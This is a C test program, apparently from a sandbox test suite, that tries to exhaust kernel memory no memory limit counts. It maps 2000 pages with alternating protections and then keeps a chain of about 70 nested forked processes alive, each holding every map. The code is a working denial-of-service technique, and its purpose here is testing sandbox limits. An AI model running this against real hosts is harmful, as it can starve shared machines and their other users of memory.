// Takes memory of the kernel's alone: forks of forks. Each has the maps of the one before, and the kernel keeps
// 64 bytes of each map for each process above that still has it.
// class: OS sandboxes: kernel memory that no limit counts
// plain: say
// flags: --memory 64MiB
#include "attack.h"

enum { kDepth = 70, kMaps = 2000 };

int main(int argc, char** argv) {
  (void)argc;
  attack(argv);
  const long page = sysconf(_SC_PAGESIZE);
  char* map = mmap(NULL, (size_t)kMaps * page, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
  if (map == MAP_FAILED) return 1;
  memset(map, 'x', (size_t)kMaps * page);
  for (long i = 0; i < kMaps; i += 2) mprotect(map + i * page, page, PROT_READ);
  int ends[2];
  if (pipe(ends) != 0) return 1;
  const pid_t first = getpid();
  for (int depth = 1; depth < kDepth; ++depth) {
    const pid_t child = fork();
    if (child < 0) break;
    if (child > 0) {
      if (getpid() == first) break;
      prctl(PR_SET_PDEATHSIG, SIGKILL);
      for (;;) pause();
    }
    prctl(PR_SET_PDEATHSIG, SIGKILL);
    if (depth == kDepth - 1) {
      if (write(ends[1], "x", 1) != 1) return 1;
      for (;;) pause();
    }
  }
  char last = 0;
  const int done = read(ends[0], &last, 1) == 1;
  nap(inside() ? 20000 : 200);  // as long as somebody who looks from time to time may need on a busy machine
  if (done) effect("%d processes below one another, with %d maps each", kDepth, kMaps);
  return 0;
}
